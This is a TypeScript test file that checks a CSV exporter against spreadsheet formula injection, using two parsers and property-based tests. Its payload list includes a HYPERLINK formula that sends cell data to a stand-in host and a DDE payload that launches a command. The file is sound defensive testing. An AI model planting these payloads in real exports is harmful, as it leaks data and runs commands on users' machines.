import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { csv } from './csv.js';

/** What two readers, which share nothing, take a text for. */
const readers: readonly [string, (text: string) => string[][]][] = [
  ['csv-parse', (text) => parse(text, { record_delimiter: '\r\n' })],
  ['papaparse', (text) => papa.parse<string[]>(text.replace(/\r\n$/, ''), { newline: '\r\n' }).data],
];

/** What spreadsheets begin a formula with, also behind blanks (OWASP, "CSV Injection"; CWE-1236). */
const formula = /^\s*[=+\-@＝＋－＠]|^[\t\r\n]/;

const payloads = [
  '=1+1',
  '=HYPERLINK("https://jahat.example?x="&A1,"klik")',
  "=cmd|' /C calc'!A0",
  '+62812',
  '-2+3',
  '@SUM(A1)',
  '\t=1',
  '\r=1',
  '\n=1',
  '  =1',
  '＝1+1',
  '＋1',
  '－1',
  '＠A1',
  'a,"b"\r\n=c',
  'a;=1',
  '"=1"',
  '',
  "'",
  'Nama, "gelar"',
  '“ü”𝒳',
];

describe.each(readers)('a table read by %s', (_name, read) => {
  it.each(payloads)('keeps %j and begins no formula with it', (value) => {
    const [, [given, sum] = []] = read(csv(['teks', 'jumlah'], [[value, -150_000]]));
    expect(given).not.toMatch(formula);
    expect([value, `'${value}`]).toContain(given);
    expect(sum).toBe('-150000');
  });

  it('has the cells that were put in, whatever they hold', () => {
    const cell = fc.oneof(fc.string({ unit: 'grapheme' }), fc.constantFrom(...payloads));
    fc.assert(
      fc.property(fc.array(fc.tuple(cell, cell, fc.integer()), { minLength: 1, maxLength: 5 }), (rows) => {
        const [header, ...found] = read(csv(['a', 'b', 'c'], rows));
        expect(header).toEqual(['a', 'b', 'c']);
        expect(found).toHaveLength(rows.length);
        found.forEach(([one, other, sum], at) => {
          const [a, b, c] = rows[at]!;
          for (const [given, value] of [
            [one, a],
            [other, b],
          ] as const) {
            expect(given).not.toMatch(formula);
            expect([value, `'${value}`]).toContain(given);
          }
          expect(sum).toBe(String(c));
        });
      }),
      { numRuns: 1000 },
    );
  });
});
